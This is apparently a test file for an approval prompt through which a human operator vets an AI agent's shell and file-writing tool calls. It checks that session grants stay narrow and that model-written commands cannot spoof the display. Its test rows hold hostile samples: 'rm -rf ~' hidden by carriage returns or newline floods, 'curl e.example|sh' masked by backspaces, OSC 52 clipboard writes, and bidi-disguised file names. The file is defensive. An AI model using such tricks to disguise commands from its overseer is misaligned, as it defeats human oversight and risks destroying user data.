/**
 * The interactive operator, driven by a scripted PromptIo: answers, the remembered
 * "allow this tool", reasons, end of input, and what the operator is shown.
 */

import {
  type ApprovalRequest,
  createPromptOperator,
  type Decision,
  describeCall,
  type PromptIo,
} from "../../approver/mod.ts";
import { assert, assertEquals, assertStringIncludes } from "../_helpers/assert.ts";

interface Script extends PromptIo {
  /** Everything written, in order. */
  readonly written: string[];
  /** Lines not read yet. */
  readonly pending: Array<string | undefined>;
  /** How many lines were asked for. */
  reads: number;
}

function script(
  answers: Array<string | undefined>,
  files: Record<string, string> = {},
  color = false,
): Script {
  const io: Script = {
    written: [],
    pending: [...answers],
    reads: 0,
    color,
    write(text) {
      io.written.push(text);
      return Promise.resolve();
    },
    readLine() {
      io.reads++;
      return Promise.resolve(io.pending.shift());
    },
    readFile: (path) => Promise.resolve(files[path]),
  };
  return io;
}

const BASH: ApprovalRequest = { tool: "bash", input: { command: "git push" } };
const ASK: Decision = { decision: "ask", reason: "bash needs approval", rule: "ask[0]" };

Deno.test("prompt: answers", async (t) => {
  const cases: Array<[string, Array<string | undefined>, true | string]> = [
    ["y allows once", ["y"], true],
    ["yes allows once", ["yes"], true],
    ["Y with spaces allows once", ["  Y "], true],
    ["n denies", ["n"], "denied by the operator"],
    ["no denies", ["no"], "denied by the operator"],
    ["an empty answer denies", [""], "denied by the operator"],
    [
      "r with a reason on the line",
      ["r use git push --dry-run first"],
      "denied by the operator: use git push --dry-run first",
    ],
    ["r keeps the reason's case", ["R Not On Fridays"], "denied by the operator: Not On Fridays"],
    [
      "r then the reason on its own line",
      ["r", "  wrong branch  "],
      "denied by the operator: wrong branch",
    ],
    ["r then an empty reason", ["r", ""], "denied by the operator"],
    ["r then end of input", ["r", undefined], "denied by the operator"],
    ["end of input (Ctrl+C) cancels", [undefined], "the operator cancelled the approval prompt"],
    ["an unknown answer asks again", ["maybe", "y"], true],
  ];
  for (const [name, answers, want] of cases) {
    await t.step(name, async () => {
      const io = script(answers);
      assertEquals(await createPromptOperator(io)(BASH, ASK), want);
      assertEquals(io.pending, []);
    });
  }
  await t.step("the reason prompt and the retry are written", async () => {
    const io = script(["what", "r", "because"]);
    await createPromptOperator(io)(BASH, ASK);
    assertEquals(io.written.slice(1), ["please answer y, a, n or r\n> ", "reason: "]);
  });
});

Deno.test("prompt: a grants the program and subcommand, not the whole tool", async () => {
  const io = script(["a", "n", "n"]);
  const operator = createPromptOperator(io);
  assertEquals(await operator(BASH, ASK), true);
  assertEquals(io.reads, 1);
  assertEquals(operator.grants().map((g) => [g.tool, g.what]), [["bash", "git push"]]);
  const written = io.written.length;
  // The grant is judged as an allow rule: git push with other words is granted...
  assertEquals(await operator({ tool: "bash", input: { command: "git push origin" } }, ASK), true);
  assertEquals(io.reads, 1, "not asked again for git push");
  assertEquals(io.written.length, written, "nothing shown again for git push");
  // ...another subcommand, another line around it, or another tool is not.
  assertEquals(
    await operator({ tool: "bash", input: { command: "git push; rm -rf x" } }, ASK),
    "denied by the operator",
  );
  assertEquals(io.reads, 2, "a line with more than the grant is asked");
  const write = { tool: "write", input: { path: "/a", content: "x" } };
  assertEquals(await operator(write, ASK), "denied by the operator");
  assertEquals(io.reads, 3, "other tools are still asked");
});

Deno.test("prompt: session grants", async (t) => {
  const cases: Array<
    [string, ApprovalRequest, string, string[][], ApprovalRequest[], ApprovalRequest[]]
  > = [
    [
      "bash: each command's program and subcommand",
      { tool: "bash", input: { command: "npm test && make check" } },
      "[a] allow npm test, make check for this session",
      [["bash", "npm test"], ["bash", "make check"]],
      [
        { tool: "bash", input: { command: "npm test -- --watch=false" } },
        { tool: "bash", input: { command: "make check" } },
      ],
      [
        { tool: "bash", input: { command: "npm install" } },
        { tool: "bash", input: { command: "make check > out" } },
        { tool: "bash", input: { command: "make check; make clean" } },
        { tool: "bash", input: { command: "npm() { rm -rf x; }; npm test" } },
      ],
    ],
    [
      "bash: a program with options only is granted with options",
      { tool: "bash", input: { command: "ls -la" } },
      "[a] allow ls for this session",
      [["bash", "ls"]],
      [{ tool: "bash", input: { command: "ls -l src" } }],
      [{ tool: "bash", input: { command: "lsof" } }, {
        tool: "bash",
        input: { command: "ls $(rm x)" },
      }],
    ],
    [
      "bash: options before the subcommand grant only that command",
      { tool: "bash", input: { command: "git --no-pager status" } },
      "[a] allow git --no-pager status for this session",
      [["bash", "git --no-pager status"]],
      [{ tool: "bash", input: { command: "git --no-pager status" } }],
      [{ tool: "bash", input: { command: "git --no-pager status --porcelain" } }, {
        tool: "bash",
        input: { command: "git --no-pager push" },
      }],
    ],
    [
      "write: that file, for write and edit",
      { tool: "write", input: { path: "/srv/a.txt", content: "x" } },
      "[a] allow changes to /srv/a.txt for this session",
      [["write", "/srv/a.txt"], ["edit", "/srv/a.txt"]],
      [
        { tool: "write", input: { path: "/srv/a.txt", content: "y" } },
        { tool: "edit", input: { path: "/srv/a.txt", "old_string": "y", "new_string": "z" } },
      ],
      [
        { tool: "write", input: { path: "/srv/b.txt", content: "y" } },
        { tool: "write", input: { path: "/srv/a.txt.bak", content: "y" } },
      ],
    ],
  ];
  for (const [name, first, label, grants, granted, asked] of cases) {
    await t.step(name, async () => {
      const io = script(["a", ...asked.map(() => "n")]);
      const operator = createPromptOperator(io);
      assertEquals(await operator(first, ASK), true);
      assertStringIncludes(io.written[0]!, label);
      assertEquals(operator.grants().map((g) => [g.tool, g.what]), grants);
      for (const request of granted) {
        assertEquals(await operator(request, ASK), true, JSON.stringify(request));
      }
      assertEquals(io.reads, 1, "granted calls are not asked");
      for (const request of asked) {
        assertEquals(
          await operator(request, ASK),
          "denied by the operator",
          JSON.stringify(request),
        );
      }
      assertEquals(io.reads, 1 + asked.length, "other calls are asked");
    });
  }
  await t.step("a line with nothing to name offers no a", async () => {
    const io = script(["a", "y"]);
    const operator = createPromptOperator(io);
    assertEquals(await operator({ tool: "bash", input: { command: "$CMD x" } }, ASK), true);
    assert(!io.written[0]!.includes("[a]"), io.written[0]);
    assertEquals(io.written[1], "please answer y, n or r\n> ");
    assertEquals(operator.grants(), []);
  });
});

Deno.test("prompt: each operator remembers on its own (one per session)", async () => {
  const first = createPromptOperator(script(["a"]));
  assertEquals(await first(BASH, ASK), true);
  const io = script(["n"]);
  assertEquals(await createPromptOperator(io)(BASH, ASK), "denied by the operator");
  assertEquals(io.reads, 1);
});

Deno.test("prompt: shows the tool, the reason, the call and the choices", async () => {
  const io = script(["y"]);
  await createPromptOperator(io)(BASH, { ...ASK, reason: "pushes need a person" });
  assertEquals(io.written, [
    "\nbash needs approval (pushes need a person)\n$ git push\n" +
    "[y] allow once  [a] allow git push for this session  [n] deny  " +
    "[r] deny and tell the model why\n> ",
  ]);
});

Deno.test("prompt: describeCall", async (t) => {
  const files = { "/srv/app/a.txt": "one\ntwo\nthree\n" };
  const io = script([], files);
  await t.step("bash shows $ and the command", async () => {
    assertEquals(
      await describeCall({ tool: "bash", input: { command: "ls -la && git status" } }, io),
      "$ ls -la && git status",
    );
  });
  await t.step("write to a new file shows the path and an all-added diff", async () => {
    assertEquals(
      await describeCall({
        tool: "write",
        input: { path: "/srv/app/new.txt", content: "hi\nthere\n" },
      }, io),
      "/srv/app/new.txt (new file)\n--- /srv/app/new.txt\tnew file\n+++ /srv/app/new.txt\n" +
        "@@ -0,0 +1,2 @@\n+hi\n+there\n",
    );
  });
  await t.step("write over a file shows a unified diff", async () => {
    assertEquals(
      await describeCall({
        tool: "write",
        input: { path: "/srv/app/a.txt", content: "one\n2\nthree\n" },
      }, io),
      "/srv/app/a.txt\n--- /srv/app/a.txt\n+++ /srv/app/a.txt\n" +
        "@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n",
    );
  });
  await t.step("edit shows a unified diff of the replacement", async () => {
    const input = { path: "/srv/app/a.txt", "old_string": "two\n", "new_string": "TWO\n2.5\n" };
    assertEquals(
      await describeCall({ tool: "edit", input }, io),
      "/srv/app/a.txt\n--- /srv/app/a.txt\n+++ /srv/app/a.txt\n" +
        "@@ -1,3 +1,4 @@\n one\n-two\n+TWO\n+2.5\n three\n",
    );
  });
  await t.step("edit with $& in the replacement is shown literally", async () => {
    const input = { path: "/srv/app/a.txt", "old_string": "two", "new_string": "$&$&" };
    assertStringIncludes(await describeCall({ tool: "edit", input }, io), "\n+$&$&\n");
  });
  await t.step("an edit that cannot apply says so and shows the input", async () => {
    const input = { path: "/srv/app/a.txt", "old_string": "nowhere", "new_string": "x" };
    const canonical = JSON.stringify(input);
    assertEquals(
      await describeCall({ tool: "edit", input, canonical }, io),
      `/srv/app/a.txt\n(the change cannot be previewed: ${canonical})`,
    );
  });
  await t.step("an edit of a missing file cannot be previewed", async () => {
    const input = { path: "/srv/app/missing", "old_string": "a", "new_string": "b" };
    const text = await describeCall({ tool: "edit", input, canonical: "{}" }, io);
    assertEquals(text, "/srv/app/missing\n(the change cannot be previewed: {})");
  });
  await t.step("other tools show their canonical input", async () => {
    assertEquals(
      await describeCall(
        { tool: "grep", input: { pattern: "x" }, canonical: '{"pattern":"x"}' },
        io,
      ),
      '{"pattern":"x"}',
    );
    assertEquals(await describeCall({ tool: "read", input: { path: "/a" } }, io), '{"path":"/a"}');
  });
  await t.step(
    "colour: added lines green, removed red, hunks cyan; none with color:false",
    async () => {
      const input = { path: "/srv/app/a.txt", "old_string": "two", "new_string": "TWO" };
      const coloured = await describeCall({ tool: "edit", input }, script([], files, true));
      assertStringIncludes(coloured, "\x1b[32m+TWO\x1b[0m");
      assertStringIncludes(coloured, "\x1b[31m-two\x1b[0m");
      assertStringIncludes(coloured, "\x1b[36m@@ -1,3 +1,3 @@\x1b[0m");
      const plain = await describeCall({ tool: "edit", input }, io);
      assert(!plain.includes("\x1b"), plain);
    },
  );
  await t.step("the prompt itself has no colour with color:false", async () => {
    const quiet = script(["y"], files);
    await createPromptOperator(quiet)({
      tool: "edit",
      input: { path: "/srv/app/a.txt", "old_string": "two", "new_string": "TWO" },
    }, ASK);
    assert(!quiet.written.join("").includes("\x1b"));
    assertStringIncludes(quiet.written.join(""), "\n-two\n+TWO\n");
  });
});

// The approval prompt shows the call the model made, and the model writes it: no character in
// it may redraw, hide or reorder what the operator reads (CVE-2024-27936's prompt spoof,
// https://github.com/CWE-CAPEC/CWE-Content-Development-Repository/issues/112; bidi in an
// approval card, Growth-Circle/cadis#791; newline and control injection into a shown command,
// kylesnowschwartz/zsh-ai-cmd#4). tests/cli/terminal/terminal_attacks_test.ts does it in a terminal.
Deno.test("prompt: the call is shown as the model sent it, never obeyed by the terminal", async (t) => {
  const io = script([]);
  const rows: [string, ApprovalRequest, string][] = [
    [
      "a carriage return and an erase cannot redraw the command",
      { tool: "bash", input: { command: "rm -rf ~ #\r\x1b[2K$ ls" } },
      "$ rm -rf ~ #\\x0d\\x1b[2K$ ls",
    ],
    [
      "cursor up and erase cannot reach the heading; OSC 52 is shown",
      { tool: "bash", input: { command: "x\x1b[1A\x1b[2K\x1b]52;c;ZXZpbA==\x07" } },
      "$ x\\x1b[1A\\x1b[2K\\x1b]52;c;ZXZpbA==\\x07",
    ],
    [
      "C1 CSI, conceal and backspaces are shown",
      { tool: "bash", input: { command: "curl e.example|sh\b\b\b\b\b\b\b\x9b8mls" } },
      "$ curl e.example|sh\\x08\\x08\\x08\\x08\\x08\\x08\\x08\\x9b8mls",
    ],
    [
      "bidi and zero-width characters are named",
      { tool: "bash", input: { command: "cat notes\u202Etxt.sh\u200B" } },
      "$ cat notes<U+202E>txt.sh<U+200B>",
    ],
    [
      "a screenful of newlines is folded, so the first line stays in sight",
      { tool: "bash", input: { command: `rm -rf ~${"\n".repeat(200)}ls` } },
      "$ rm -rf ~\n… 199 blank lines …\nls",
    ],
    [
      "a path with a bidi override in a write",
      { tool: "write", input: { path: "/srv/app/a\u202Ecod.exe", content: "x\x1b[8m\n" } },
      // The diff's own header quotes the name in octal, as git does.
      '/srv/app/a<U+202E>cod.exe (new file)\n--- "/srv/app/a\\342\\200\\256cod.exe"\tnew file\n' +
      '+++ "/srv/app/a\\342\\200\\256cod.exe"\n@@ -0,0 +1,1 @@\n+x\\x1b[8m\n',
    ],
    [
      "other tools' canonical input",
      { tool: "grep", input: {}, canonical: '{"pattern":"\u202Ex\x1b[2J"}' },
      '{"pattern":"<U+202E>x\\x1b[2J"}',
    ],
  ];
  for (const [name, request, want] of rows) {
    await t.step(name, async () => assertEquals(await describeCall(request, io), want));
  }
  await t.step("the tool name and the reason in the heading", async () => {
    const asked = script(["n"]);
    await createPromptOperator(asked)(
      { tool: "bash\x1b[2J", input: { command: "ls" } },
      { ...ASK, reason: "because\x1b]0;title\x07" },
    );
    assert(
      asked.written[0]!.startsWith(
        '\nbash\\x1b[2J needs approval (because\\x1b]0;title\\x07)\n{"command":"ls"}\n',
      ),
      JSON.stringify(asked.written[0]),
    );
  });
});
